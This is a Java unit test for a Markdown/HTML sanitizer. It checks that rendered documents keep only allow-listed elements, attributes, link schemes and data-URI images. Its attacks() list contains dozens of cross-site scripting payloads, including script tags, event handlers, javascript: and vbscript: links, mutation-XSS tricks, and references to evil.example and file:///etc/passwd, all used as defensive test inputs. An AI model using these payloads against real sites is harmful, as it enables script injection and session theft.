package org.pressroom.parse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.pressroom.parse.Parsing.dom;
import static org.pressroom.parse.Parsing.html;
import static org.pressroom.parse.Parsing.rules;

import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

/// Nothing of what an author writes may become more than these elements and attributes.
class SafeHtmlTest {

    private static final Set<String> ELEMENTS = Set.of("p", "div", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "pre", "table",
        "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "details", "summary", "figure", "figcaption", "b", "i", "em", "strong",
        "code", "kbd", "samp", "var", "sub", "sup", "mark", "del", "ins", "s", "u", "small", "q", "cite", "abbr", "dfn", "br", "hr", "wbr",
        "a", "img", "span", "body");
    private static final Map<String, Set<String>> ATTRIBUTES = Map.of("a", Set.of("href", "title", "rel", "class", "aria-label"),
        "img", Set.of("src", "alt"), "ol", Set.of("start"), "code", Set.of("class"), "th", Set.of("scope", "class"), "td", Set.of("class"),
        "span", Set.of("class", "role", "aria-label"), "div", Set.of("class", "tabindex"), "p", Set.of("class"), "pre", Set.of("tabindex", "data-language"));

    /// What `SafeHtmlTest` and the fuzz test hold of any document's HTML.
    static void assertSafe(Element body, String source) {
        Set<String> anchors = new HashSet<>();
        for (Element element : body.getAllElements()) {
            assertTrue(ELEMENTS.contains(element.normalName()), element.normalName() + " of " + source);
            Set<String> allowed = ATTRIBUTES.getOrDefault(element.normalName(), Set.of());
            for (Attribute attribute : element.attributes()) {
                // Ids of the page itself have a tilde, so that nobody can write one of them.
                boolean anchor = attribute.getKey().equals("id") && attribute.getValue().matches("[^\\s~\\p{Cntrl}]+") && anchors.add(attribute.getValue())
                    || attribute.getKey().equals("open") && element.normalName().equals("details")
                    || attribute.getKey().equals("class") && attribute.getValue().equals("footnote-ref");
                assertTrue(anchor || allowed.contains(attribute.getKey()), attribute + " of " + source);
                if (attribute.getKey().equals("href")) {
                    String address = attribute.getValue().replaceAll("[\\x00-\\x20]", "").toLowerCase(java.util.Locale.ROOT);
                    assertTrue(address.matches("(?s)(?:https?:|mailto:|tel:|#fn).*"), attribute + " of " + source);
                }
                if (attribute.getKey().equals("src")) {
                    assertTrue(attribute.getValue().matches("data:image/(?:png|gif|jpeg|webp);base64,[A-Za-z0-9+/=]+"), attribute + " of " + source);
                }
            }
            assertFalse(element.childNodes().stream().anyMatch(n -> n instanceof Comment), "a comment of " + source);
        }
    }

    static Stream<String> attacks() {
        List<String> parts = List.of(
            "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>", "<img src=\"x\" ONERROR = 'alert(1)' alt=\"a\">", "<img/src=x/onerror=alert(1)>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">", "<img src='javascript:alert(1)'>", "<img srcset='https://evil.example/a.png 2x'>",
            "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#x09;script:alert(1)\">x</a>", "<a href=\" \u0001javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>", "<a href='https://ok.example/' onclick=alert(1) style='position:fixed' target=_top>x</a>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x></object>",
            "<embed src=x>", "<form action=https://evil.example><input name=a><button>b</button></form>", "<style>body{display:none}</style>",
            "<link rel=stylesheet href=https://evil.example/a.css>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<template><script>1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea></textarea><script>1</script>", "<title><img src=x></title>",
            "<plaintext>", "<xmp><script>1</script></xmp>", "<div id=search class=site-header style=x data-x=y>t</div>", "<p id=a name=b>t</p>",
            "<custom-element onclick=x>t</custom-element>", "<b", "<b onclick=alert(1)", "<div><p><b>never closed", "</div></main></body></html>",
            "<!-- a comment <script>alert(1)</script> -->", "<!-- never closed <script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?><script>alert(1)</script>", "<!DOCTYPE html [<!ENTITY x 'y'>]>",
            "<details open ontoggle=alert(1)><summary>s</summary>t</details>", "<video><source onerror=alert(1)></video>",
            "<table background=x><tr><td onclick=alert(1) width=1>c</td></tr></table>", "<a name=x id=x>t</a>", "<input autofocus onfocus=alert(1)>",
            "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](JAVASCRIPT:alert%281%29)", "[x](&#106;avascript:alert(1))",
            "[x](javascript&colon;alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox)", "[x](file:///etc/passwd)",
            "[x](\\\\evil.example/share)", "[x](//evil.example)", "[x](https://ok.example \"t\\\" onclick=alert(1) x=\\\"\")",
            "[x](https://ok.example/\"onmouseover=alert(1)//)", "![a\" onerror=\"alert(1)](https://evil.example/x.png)",
            "![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zy8+)", "![x](data:image/png;base64,iVBORw0KGgo=)",
            "![x](data:image/png;base64,\"onerror=alert(1))", "<javascript:alert(1)>", "<https://ok.example/\"onclick=alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]", "https://ok.example/<script>alert(1)</script>", "www.ok.example/\"><script>alert(1)</script>",
            "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
            "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | [x](javascript:1) |", "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
            "- [x] <b onclick=1>t</b>", "~~<i onclick=1>t~~", "\u0001" + "0\u0002click\u0003", "\u0004" + "0\u0002",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>");
        return parts.stream();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void onlyWhatIsAllowedRemainsOfAnything(String attack) {
        for (String text : List.of("%s\n", "Words %s and words.\n", "# A title %s\n\ntext\n", "> %s\n", "- %s\n", "## FAQ\n\n### Is it %s?\n\n%s\n",
                "## Press release\n\n**The problem.** %s\n", "<div>\n\n%s\n\n</div>\n")) {
            String source = text.replace("%s", attack);
            assertSafe(dom(source), source);
            assertFalse(dom(source).text().contains("PLACEHOLDER"));
        }
    }

    @Test
    void aScriptGoesWithItsContentAndIsTold() {
        assertFalse(html("before\n\n<script>\nalert(1)\n</script>\n\nafter\n").contains("alert"));
        assertEquals(List.of("text-unsafe-html"), rules("before\n\n<script>\nalert(1)\n</script>\n"));
        Notice notice = Parsing.parsed("before\n\n<script>\nalert(1)\n</script>\n").notices().getFirst();
        assertEquals(3, notice.position().line());
        assertEquals(1, notice.position().column());
        assertTrue(notice.fix() != null);
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(1)", "JavaScript:alert(1)", "java\\script:x", "data:text/html,x", "vbscript:x", "file:///etc/passwd"})
    void anUnsafeLinkIsItsWordsAndIsTold(String address) {
        String text = "one\n\ntwo [words](" + address + ")\n";
        if (address.contains("\\")) {
            assertEquals(List.of(), rules(text));
            return;
        }
        assertTrue(html(text).contains("<p>two words</p>"), html(text));
        Notice notice = Parsing.parsed(text).notices().getFirst();
        assertEquals("text-unsafe-link", notice.rule());
        assertEquals(3, notice.position().line());
        assertEquals(5, notice.position().column());
    }

    @Test
    void goodHtmlStays() {
        String html = html("Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, <mark>this</mark>.<br>Next\n\n<details><summary>More</summary>\n\nHidden *words*.\n\n</details>\n");
        assertTrue(html.contains("<kbd>Ctrl</kbd>") && html.contains("H<sub>2</sub>O") && html.contains("<br>"), html);
        assertTrue(html.contains("<summary>More</summary>"), html);
    }

    @Test
    void imagesOfOtherHostsBecomeLinks() {
        String text = "![a map](https://elsewhere.example/map.png)\n";
        Element dom = dom(text);
        assertEquals(0, dom.select("img").size());
        assertEquals("https://elsewhere.example/map.png", dom.select("a").attr("href"));
        assertEquals(List.of("text-remote-image"), rules(text));
    }
}
